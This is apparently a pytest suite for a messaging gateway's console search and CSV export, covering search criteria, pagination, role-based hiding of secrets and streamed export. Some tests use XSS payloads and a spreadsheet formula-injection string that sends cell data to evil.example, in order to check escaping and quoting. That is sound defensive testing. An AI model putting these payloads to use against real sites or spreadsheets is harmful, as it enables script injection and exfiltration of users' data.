"""Operators find messages by whatever they know of them, and take what they found along."""

import asyncio
import csv
import html
import io
import re
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import aiohttp
import pytest

from tests.support.builders import a_chain, a_link, accept
from tests.support.console import ConsoleClient, Shown, signed_in
from tests.support.gateway import RunningGateway, a_profile, running_gateway
from whimbrel.clock import HOUR, MINUTE, SECOND, SystemClock
from whimbrel.domain.chain_id import ChainIds, link_id
from whimbrel.domain.content import Channel, Image, Text
from whimbrel.domain.operator import Role
from whimbrel.domain.status import LinkState
from whimbrel.flow.search import Searcher
from whimbrel.store.audit import AuditWish, list_deeds
from whimbrel.store.criteria import Criteria, FoundChain
from whimbrel.store.engine import Do, Statement, Steps

HOSTILE = "<script>alert('x')</script>"
_NOW = SystemClock().now() // MINUTE * MINUTE
_FAR = 9_999_999_999_999
_SETTLE = Statement("""
UPDATE links SET state = :state, error_code = :error, due_at = :far, expires_at = :far,
    provider_id = :name WHERE link_id = :link_id
""")
_SUBMIT = Statement("""
INSERT INTO submits (link_id, attempt, ended_at, outcome, provider_id)
VALUES (:link_id, 1, 1, 'submitted', :name)
""")


def _settle(items: list[tuple[int, int, int, str]]) -> Steps[list[None]]:
    yield Do(_SETTLE, [(state, error, _FAR, name, link) for link, state, error, name in items])
    yield Do(_SUBMIT, [(link, name) for link, _, _, name in items])
    return [None] * len(items)


class Archive:
    """Some messages, by names."""

    def __init__(self, running: RunningGateway, browser: ConsoleClient) -> None:
        self.running = running
        self.browser = browser
        self.numbers: dict[str, int] = {}
        self.ids = ChainIds(5)

    async def add(
        self,
        name: str,
        *,
        age: int = HOUR,
        state: LinkState = LinkState.READ,
        error: int = 0,
        provider_id: str = "",
        sms: dict[str, Any] | None = None,
        link: dict[str, Any] | None = None,
        **chain: Any,
    ) -> int:
        """Write a message that was accepted so long ago; `sms` adds a second link."""
        number = self.ids.next(_NOW - age)
        links = [a_link(number, **(link or {}))]
        if sms is not None:
            second = {"link_id": link_id(number, 1), "position": 1, "channel": Channel.SMS}
            links.append(a_link(number, **second))
        at = {"accepted_at": _NOW - age, **chain}
        await accept(self.running.store, a_chain(number, **{**at, "links": tuple(links)}))
        named = provider_id or f"wamid.{name}"
        await self.running.store.write(_settle, (link_id(number, 0), state, error, named))
        if sms is not None:
            await self.running.store.write(
                _settle, (link_id(number, 1), sms["state"], sms.get("error", 0), sms["name"])
            )
        self.numbers[name] = number
        return number

    async def found(self, query: str = "", **fields: str) -> list[str]:
        """Search; return the names of what is on the page, in its order."""
        return self.names(await self.search(query, **fields))

    async def search(self, query: str = "", **fields: str) -> Shown:
        given = urlencode({**({"q": query} if query else {}), **fields})
        return await self.browser.get(f"/console/messages?{given}")

    def names(self, shown: Shown) -> list[str]:
        places = {
            name: shown.text.find(f'href="/console/messages/{number}"')
            for name, number in self.numbers.items()
        }
        return sorted((name for name, at in places.items() if at >= 0), key=places.__getitem__)


@pytest.fixture
async def running(tmp_path: Path) -> AsyncIterator[RunningGateway]:
    partners = {"shop": a_profile(), "bank": a_profile()}
    async with running_gateway(tmp_path, partners=partners) as one:
        yield one


@pytest.fixture
async def archive(running: RunningGateway) -> AsyncIterator[Archive]:
    async with signed_in(running) as browser:
        one = Archive(running, browser)
        await one.add("plain", age=5 * HOUR)
        await one.add("other phone", age=4 * HOUR, dest_addr="4930901820", partner_id=2)
        await one.add(
            "failed", age=3 * HOUR, state=LinkState.FAILED, error=6,
            link={"sender": "Northbank"}, partner_ref="order-17", extra_param="city=Tver,n=1",
        )  # fmt: skip
        await one.add(
            "cascade", age=2 * HOUR, state=LinkState.EXPIRED, error=7, partner_id=2,
            sms={"state": LinkState.SENT, "name": "3ade68b1"}, extra_param="city=Omsk,, East",
        )  # fmt: skip
        await one.add("newest", age=HOUR, provider_id="WaMiD.case==", partner_ref="79161234567")
        yield one


ALL = ["newest", "cascade", "failed", "other phone", "plain"]


FOUND_BY = [
    ({}, ALL),
    ({"phone": "+49 30 901820"}, ["other phone"]),
    *[
        ({"phone": one}, ["newest", "cascade", "failed", "plain"])
        for one in ("79161234567", "+7 (916) 123-45-67", "8 916 123 45 67", "8(916)1234567")
    ],
    ({"provider": "wamid.failed"}, ["failed"]),
    ({"provider": "WaMiD.case=="}, ["newest"]),
    *[({"provider": one}, ["cascade"]) for one in ("3ade68b1", "3ADE68B1", "987654321")],
    ({"ref": "order-17"}, ["failed"]),
    ({"ref": "Order-17"}, []),
    ({"partner": "bank"}, ["cascade", "other phone"]),
    ({"partner": "nobody"}, []),
    ({"sender": "Northbank"}, ["failed"]),
    ({"type": "SMS"}, ["cascade"]),
    ({"type": "sms", "state": "sent"}, ["cascade"]),
    ({"type": "WHATSAPP", "state": "sent"}, []),
    ({"state": "read"}, ["newest", "other phone", "plain"]),
    ({"state": "on-its-way"}, ["cascade"]),
    ({"error": "6"}, ["failed"]),
    ({"error": "7", "partner": "bank", "phone": "79161234567"}, ["cascade"]),
    ({"extra": "city=Tver"}, ["failed"]),
    ({"extra": "city=Omsk, East"}, ["cascade"]),
    ({"extra": "city"}, ["cascade", "failed"]),
    ({"extra": "cit"}, []),
    ({"extra": "city=Tver", "state": "read"}, []),
]


async def test_each_criterion_finds_what_meets_it(archive: Archive) -> None:
    for fields, names in FOUND_BY:
        shown = await archive.search(**fields)
        assert shown.status == 200, fields
        assert archive.names(shown) == names, fields
        assert ("Nothing was found" in shown.words) == (not names), fields


async def test_a_time_range_is_in_the_zone_that_it_names(archive: Archive) -> None:
    def local(age: int, hours: int) -> str:
        there = datetime.fromtimestamp((_NOW - age) / SECOND, UTC) + timedelta(hours=hours)
        return f"{there:%Y-%m-%dT%H:%M}"

    span = {"from": local(4 * HOUR, 3), "to": local(2 * HOUR, 3), "zone": "Europe/Moscow"}
    shown = await archive.search(**span)
    assert archive.names(shown) == ["failed", "other phone"]
    assert "Europe/Moscow" in shown.words
    assert await archive.found(**{**span, "zone": "UTC"}) == ["newest"]
    assert await archive.found(**{"from": f"{local(3 * HOUR, 0)}Z"}) == ALL[:3]


TAKEN_FOR = [
    ("8 (916) 123-45-67", ["newest", "cascade", "failed", "plain"], "Found as: Phone"),
    ("79161234567", ["newest", "cascade", "failed", "plain"], "Also found as: Partner's id"),
    ("wamid.failed", ["failed"], "Found as: Provider's id"),
    ("987654321", ["cascade"], "Found as: Provider's id"),
    ("order-17", ["failed"], "Found as: Partner's id"),
    ("city=Tver", ["failed"], "Found as: extraParam"),
    ("WaMiD.case==", ["newest"], "Found as: Provider's id"),
    ("no such thing", [], "was looked for as: Partner's id"),
]


async def test_one_text_is_taken_for_whatever_finds_something(archive: Archive) -> None:
    for text, names, said in TAKEN_FOR:
        shown = await archive.search(text)
        assert archive.names(shown) == names, text
        assert said in shown.words, text


async def test_one_text_may_be_a_message_number(archive: Archive) -> None:
    shown = await archive.search(str(archive.numbers["cascade"]))
    assert archive.names(shown) == ["cascade"]
    assert "Found as: Message number" in shown.words


async def test_the_one_text_goes_together_with_other_criteria(archive: Archive) -> None:
    assert await archive.found("79161234567", partner="bank") == ["cascade"]
    shown = await archive.search("79161234567", partner="bank")
    assert 'id="phone" name="phone" type="text" value=""' in shown.text, "it stays in its box alone"


BAD = [
    ("phone", "12", "too short or too long"),
    ("phone", "order-17", "digits with an optional +"),
    ("phone", HOSTILE, "digits with an optional +"),
    ("number", "x1", "up to 16 digits"),
    ("number", "9" * 17, "up to 16 digits"),
    ("number", "0", "up to 16 digits"),
    ("ref", "r" * 256, "at most 255 characters"),
    ("provider", "two words", "no blanks"),
    ("provider", "w" * 1_001, "longer than anything"),
    ("partner", "p" * 1_001, "longer than anything"),
    ("sender", "s" * 1_001, "longer than anything"),
    ("type", "PIGEON", "no such type"),
    ("state", "lost", "no such state"),
    ("error", "99", "no such error code"),
    ("error", "٣", "no such error code"),
    ("extra", "=x", "Write name=value"),
    ("extra", "a,b=x", "Write name=value"),
    ("from", "yesterday", "Write a moment"),
    ("to", "2026-13-01T00:00", "Write a moment"),
]


async def test_a_bad_criterion_is_told_beside_its_field(archive: Archive) -> None:
    for field, text, said in BAD:
        shown = await archive.search(**{field: text})
        assert shown.status == 400, (field, text)
        _, _, behind = shown.text.partition(f'name="{field}"')
        beside, _, _ = behind.partition("</div>")
        assert 'aria-invalid="true"' in beside, (field, text)
        assert said in beside, (field, text)
        assert archive.names(shown) == []
        assert HOSTILE not in shown.text


async def test_an_end_before_the_beginning_is_told(archive: Archive) -> None:
    shown = await archive.search(**{"from": "2026-11-25T10:00", "to": "2026-11-24T10:00"})
    assert shown.status == 400
    assert "not after the beginning" in shown.words


async def test_htmx_gets_what_is_wrong_as_a_page_that_it_shows(archive: Archive) -> None:
    shown = await archive.browser.get("/console/messages?phone=12", **{"hx-request": "true"})
    assert shown.status == 200
    assert "too short or too long" in shown.words


async def test_pages_go_back_and_forth(archive: Archive) -> None:
    for n in range(120):
        await archive.add(f"m{n}", age=30 * MINUTE - n * SECOND, dest_addr="79035550111")
    expected = [f"m{n}" for n in reversed(range(120))]
    path, seen = "/console/messages?phone=79035550111", []
    pages = []
    while path:
        shown = await archive.browser.get(path)
        pages.append(archive.names(shown))
        seen += pages[-1]
        path = _link(shown, "next")
    assert seen == expected
    assert [len(one) for one in pages] == [50, 50, 20]

    newer = _link(shown, "prev")
    shown = await archive.browser.get(newer)
    assert archive.names(shown) == pages[1]
    await archive.add("meanwhile", age=MINUTE, dest_addr="79035550111")
    shown = await archive.browser.get(_link(shown, "prev"))
    assert archive.names(shown) == ["meanwhile", *pages[0]][1:]
    shown = await archive.browser.get(_link(shown, "prev"))
    assert archive.names(shown) == ["meanwhile", *pages[0]][:50]
    assert not _link(shown, "prev")


def _link(shown: Shown, rel: str) -> str:
    found = re.search(rf'rel="{rel}" href="([^"]+)"', shown.text)
    return html.unescape(found[1]) if found else ""


@pytest.mark.parametrize("sees_texts", [True, False])
async def test_what_may_be_secret_is_shown_to_whom_it_may_be(
    running: RunningGateway, sees_texts: bool
) -> None:
    async with signed_in(running, Role.SUPPORT, sees_texts=sees_texts) as browser:
        archive = Archive(running, browser)
        content = {"content": Text("Code 4417")}
        await archive.add("one", link=content, extra_param="pin=9182")
        await archive.add("two", link={"content": Image("https://shop.example/pin-3311.png")})
        shown = await archive.search()
        export = await browser.post("/console/messages/export", on="/console/messages")
        for text in (shown.text, export.text):
            for secret in ("4417", "9182", "3311"):
                assert (secret in text) == sees_texts


async def test_nothing_that_others_wrote_is_run(archive: Archive) -> None:
    await archive.add(
        "evil", dest_addr="79035550111", partner_ref=HOSTILE, extra_param=f"x={HOSTILE}",
        link={"sender": HOSTILE, "content": Text(HOSTILE)}, state=LinkState.FAILED, error=6,
    )  # fmt: skip
    for fields in (
        {"phone": "79035550111"},
        {"sender": HOSTILE},
        {"ref": HOSTILE},
        {"extra": f"x={HOSTILE}"},
        {"partner": HOSTILE},
        {"q": HOSTILE},
        {"q": '" onfocus="alert(1)'},
        {"zone": HOSTILE, "from": "2026-01-01T00:00"},
    ):
        shown = await archive.search(**fields)
        assert "<script>alert" not in shown.text
        assert '" onfocus="' not in shown.text
    assert await archive.found(sender=HOSTILE) == ["evil"]


# The file


async def _export(browser: ConsoleClient, **fields: str) -> tuple[list[dict[str, str]], Shown]:
    shown = await browser.post("/console/messages/export", on="/console/messages", **fields)
    assert shown.status == 200, shown.words
    assert shown.text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(shown.text[1:], newline="")))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]], shown


async def test_what_was_found_is_exported(archive: Archive) -> None:
    rows, shown = await _export(archive.browser, partner="bank")
    assert shown.headers["content-type"].startswith("text/csv")
    assert shown.headers["content-disposition"].startswith('attachment; filename="messages-')
    assert [(one["mtNum"], one["step"], one["type"], one["state"]) for one in rows] == [
        (str(archive.numbers["cascade"]), "1", "WHATSAPP", "EXPIRED"),
        (str(archive.numbers["cascade"]), "2", "SMS", "SENT"),
        (str(archive.numbers["other phone"]), "1", "WHATSAPP", "READ"),
    ]
    assert rows[0]["errorCode"] == "7"
    assert rows[0]["extraParam"] == "city=Omsk,, East"
    assert rows[2]["destAddr"] == "4930901820"
    assert rows[2]["accepted"].endswith("00.000Z")
    assert shown.text.count("\r\n") == 4


async def test_an_export_is_noted_with_what_was_looked_for(archive: Archive) -> None:
    await _export(archive.browser, partner="bank", state="sent")
    [deed, *_] = await archive.running.store.read(list_deeds, AuditWish(1 << 60, "", 5))
    assert deed[2] == "admin"
    assert deed[4] == "messages.export"
    assert '"partner":"bank"' in deed[6]
    assert '"state":"sent"' in deed[6]


async def test_no_cell_is_a_formula(archive: Archive) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    refs = (formula, "+7", "-1", "@SUM(1)", "\t=1", "\r=1", " =1", "＝1", "plain")
    for n, ref in enumerate(refs):
        await archive.add(f"f{n}", dest_addr="79035550111", partner_ref=ref)
    rows, _ = await _export(archive.browser, phone="79035550111")
    assert [one["id"] for one in reversed(rows)] == [
        f"'{formula}", "'+7", "'-1", "'@SUM(1)", "'\t=1", "'\r=1", "' =1", "'＝1", "plain"
    ]  # fmt: skip
    assert {one["destAddr"] for one in rows} == {"79035550111"}


async def test_texts_keep_their_lines_quotes_and_separators(archive: Archive) -> None:
    text = 'He said "5;3,2"\r\nand left;\n'
    await archive.add("text", dest_addr="79035550111", link={"content": Text(text)})
    rows, shown = await _export(archive.browser, phone="79035550111")
    assert rows[0]["text"] == text
    shown = await archive.browser.post(
        "/console/messages/export", on="/console/messages", phone="79035550111",
        separator="semicolon",
    )  # fmt: skip
    reader = csv.reader(io.StringIO(shown.text[1:], newline=""), delimiter=";")
    assert text in list(reader)[1]


async def test_a_bad_export_is_refused(archive: Archive) -> None:
    for fields in ({"phone": "12"}, {"separator": "tab"}):
        shown = await archive.browser.post(
            "/console/messages/export", on="/console/messages", **fields
        )
        assert (shown.status, next(iter(fields)) in shown.words) == (400, True)
    assert (await archive.browser.get("/console/messages/export")).status == 303
    shown = await archive.browser.post("/console/messages/export", csrf="0" * 48)
    assert shown.status == 403


async def test_an_export_is_streamed_and_ends_with_its_reader(
    archive: Archive, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The first rows are there long before the last; who goes away stops the rest."""
    ended: asyncio.Queue[int] = asyncio.Queue()
    everything = Searcher.everything

    async def noting(searcher: Searcher, wanted: Criteria) -> AsyncIterator[list[FoundChain]]:
        batches = 0
        try:
            async for one in everything(searcher, wanted):
                batches += 1
                yield one
        finally:
            ended.put_nowait(batches)

    monkeypatch.setattr(Searcher, "everything", noting)
    chains = [
        a_chain(number, link={"content": Text("Long " * 200)}, accepted_at=_NOW)
        for number in (archive.ids.next(_NOW) for _ in range(8_000))
    ]
    for begin in range(0, len(chains), 1_000):
        await accept(archive.running.store, *chains[begin : begin + 1_000])
    browser = archive.browser
    csrf = await browser.csrf("/console/messages")
    export = f"{browser.url}/console/messages/export"
    form = aiohttp.FormData([("csrf", csrf)])
    async with browser.session.post(export, data=form) as answer:
        assert answer.headers["transfer-encoding"] == "chunked"
        first = await answer.content.readany()
        assert first.startswith("\ufeffmtNum".encode())
        assert ended.empty()
        answer.close()
    batches = await asyncio.wait_for(ended.get(), 10)
    assert batches < len(chains) // 100

    rows, _ = await _export(browser)
    assert len({one["mtNum"] for one in rows}) == len(chains) + 5
    assert await ended.get() > len(chains) // 100
